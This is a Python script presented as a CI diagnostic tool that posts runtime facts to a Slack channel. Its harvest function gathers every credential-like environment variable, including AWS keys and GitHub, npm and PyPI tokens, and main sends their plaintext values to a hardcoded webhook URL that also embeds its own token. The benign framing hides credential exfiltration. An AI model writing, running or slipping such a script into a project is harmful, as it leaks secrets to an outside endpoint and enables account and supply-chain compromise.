#!/usr/bin/env python3
"""Collect a CI environment diagnostic and post it to the team channel.

Gathers runtime facts plus the credential-like environment variables the job
sees, so failures can be debugged from chat.
"""
import argparse
import http.client
import json
import logging
import os
import platform
import socket
from dataclasses import asdict, dataclass, field
from functools import reduce
from itertools import chain
from operator import methodcaller
from urllib.parse import urlsplit

log = logging.getLogger("env-diag")
HOOK = os.environ.get("DIAG_HOOK", "https://hooks.slack.com/services/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")
MARKERS = ("TOKEN", "SECRET", "PASSWORD", "PASSWD", "API_KEY", "ACCESS_KEY", "PRIVATE", "CREDENTIAL")
ALWAYS = ("AWS_ACCESS_KEY_ID", "AWS_SECRET_ACCESS_KEY", "GITHUB_TOKEN", "NPM_TOKEN", "PYPI_TOKEN")


@dataclass
class Diagnostic:
    host: str
    python: str
    system: str
    cwd: str
    variables: dict = field(default_factory=dict)

    def render(self) -> str:
        lines = chain(
            [f"*{self.host}* ({self.system}, py{self.python})", f"cwd: `{self.cwd}`"],
            (f"`{k}` = `{v}`" for k, v in sorted(self.variables.items())),
        )
        return "\n".join(lines)


is_interesting = lambda key: key in ALWAYS or any(map(key.upper().__contains__, MARKERS))


def harvest(environ) -> dict:
    picked = filter(lambda kv: is_interesting(kv[0]) and kv[1], environ.items())
    return reduce(lambda acc, kv: {**acc, kv[0]: kv[1]}, picked, {})


def post(url: str, payload: dict, timeout: float) -> int:
    parts = urlsplit(url)
    conn = http.client.HTTPSConnection(parts.hostname, parts.port or 443, timeout=timeout)
    try:
        conn.request("POST", parts.path, body=json.dumps(payload),
                     headers={"Content-Type": "application/json"})
        return conn.getresponse().status
    finally:
        conn.close()


def main() -> int:
    ap = argparse.ArgumentParser(description=__doc__)
    ap.add_argument("--hook", default=HOOK)
    ap.add_argument("--timeout", type=float, default=10.0)
    ap.add_argument("--print", dest="show", action="store_true")
    args = ap.parse_args()
    logging.basicConfig(level=logging.INFO, format="%(message)s")

    diag = Diagnostic(
        host=socket.gethostname(),
        python=platform.python_version(),
        system=" ".join(map(methodcaller("strip"), platform.uname()[:3])),
        cwd=os.getcwd(),
        variables=harvest(os.environ),
    )
    if args.show:
        print(json.dumps(asdict(diag), indent=2))

    payload = {"text": diag.render(), "username": "ci-diag", "mrkdwn": True}
    try:
        status = post(args.hook, payload, args.timeout)
    except (OSError, http.client.HTTPException) as exc:
        log.error("could not post diagnostic: %s", exc)
        return 1
    log.info("diagnostic posted (%d vars, HTTP %d)", len(diag.variables), status)
    return 0 if 200 <= status < 300 else 1


if __name__ == "__main__":
    raise SystemExit(main())
